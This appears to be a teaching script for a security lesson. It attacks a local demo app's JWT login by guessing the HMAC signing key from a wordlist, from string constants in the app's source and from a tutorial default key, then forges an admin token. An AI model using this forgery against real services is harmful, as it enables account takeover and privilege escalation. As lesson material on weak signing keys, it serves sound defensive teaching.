"""Attacks of lesson 4, tried on app.py."""

import ast
import hmac
import json
import os
import runpy
import secrets
from base64 import urlsafe_b64encode
from pathlib import Path

import jwt

APP = Path(__file__).with_name("app.py")
ADA = {"username": "ada", "password": "analytical engine"}
WORDS = ["password", "letmein", "qwerty", "secret", "changeme", "jwt-secret", "dev", "your-256-bit-secret"]


def crack_key():
    """Log in as ada, and try a list of words on the token. That happens on the attacker's computer: no log shows it."""
    return any(forge_admin(word.encode()) for word in WORDS)


def read_key_in_repository():
    """Read the source, as everybody can who has ever copied the repository, and try each text in it as the key."""
    constants = [node.value for node in ast.walk(ast.parse(APP.read_text())) if isinstance(node, ast.Constant)]
    texts = [value.encode() if isinstance(value, str) else value for value in constants]
    return any(forge_admin(text) for text in texts if isinstance(text, bytes) and text)


def wait_for_weak_key():
    """Wait until an operator starts the service with a key from a tutorial."""
    try:
        return start("your-256-bit-secret") is not None
    except SystemExit:
        return False


def start(key):
    """Start the service with a key in the environment."""
    os.environ["LESSON_KEY"] = key
    return runpy.run_path(str(APP))["app"]


def forge_admin(key):
    """Return whether the service accepts a token for an administrator that is signed with a key."""
    text = f"{token.split('.')[0]}.{encode(json.dumps({**claims, 'sub': 'grace', 'role': 'admin'}).encode())}"
    forged = f"{text}.{encode(hmac.digest(key, text.encode(), 'sha256'))}"
    response = client.get("/me", headers={"Authorization": f"Bearer {forged}"})
    return response.status_code == 200 and response.json["role"] == "admin"


def encode(data):
    """Return bytes in base64url without padding."""
    return urlsafe_b64encode(data).decode().rstrip("=")


client = start(secrets.token_hex(32)).test_client()
token = client.post("/login", json=ADA).json["token"]
claims = jwt.decode(token, options={"verify_signature": False})
for attack in (crack_key, read_key_in_repository, wait_for_weak_key):
    print(f"{attack.__name__}: {'succeeds' if attack() else 'fails'}")
